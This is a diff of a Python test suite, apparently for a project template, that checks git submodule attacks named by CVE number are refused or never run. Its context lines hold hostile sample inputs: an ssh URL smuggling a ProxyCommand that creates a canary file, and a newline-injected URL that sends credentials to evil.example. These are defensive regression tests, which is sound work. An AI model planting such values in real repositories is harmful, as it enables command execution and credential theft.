@@ -147,7 +147,7 @@ def machine(tmp_path):
     return tmp_path
 
 
-def make(machine: Path, status: int, **answers) -> str:
+def make(machine: Path, status: int | None, **answers) -> str:
     """Run cookiecutter with answers that are taken as they are, and return what was printed."""
     replay = write_replay_file(machine / "replay.json", **answers)
     variables = dict.fromkeys(("TMPDIR", "TEMP", "TMP"), str(machine / "temporary"))
@@ -237,7 +237,6 @@ REPOSITORIES = [
     Attack("CVE-2022-39253", nested("\turl = {folder}/inner.git\n"), "transport 'file' not allowed"),
     Attack("CVE-2017-1000117", nested("\turl = ssh://-oProxyCommand=touch% canary/x\n"), NOT_FETCHED),
     Attack("CVE-2020-5260", nested('\turl = "https://127.0.0.1:1\\nhost=evil.example/x"\n'), NOT_FETCHED),
-    Attack("CVE-2025-48384", nested(URL, path="inner\r")),
     Attack(
         "CVE-2024-32002",
         {
@@ -265,6 +264,7 @@ REPOSITORIES = [
     ),
 ]
 # Git itself refuses to look at these, so no app is made.
+REFUSED_BY_OLD_GIT = Attack("CVE-2025-48384", nested(URL, path="inner\r"))
 REFUSED_BY_GIT = [
     Attack(
         "CVE-2019-19604",
@@ -314,6 +314,15 @@ def test_nothing_in_a_repository_is_run(server, machine):
     assert len(commands) > len(REPOSITORIES)
     for command in commands:
         run(*shlex.split(command), cwd=app, status=None)
+    assert_no_canary(machine)
+
+
+def test_what_some_git_refuses_is_not_run(server, machine):
+    """Git without the mend of July 2025 can't add such a repository: then no app is made."""
+    said = make(machine, None, submodules=serve([REFUSED_BY_OLD_GIT], server))
+    is_made = " is ready." in said
+    assert (machine / "apps" / SLUG).is_dir() == is_made
+    assert is_made or "inner" in said
     assert_no_canary(machine)
 
 
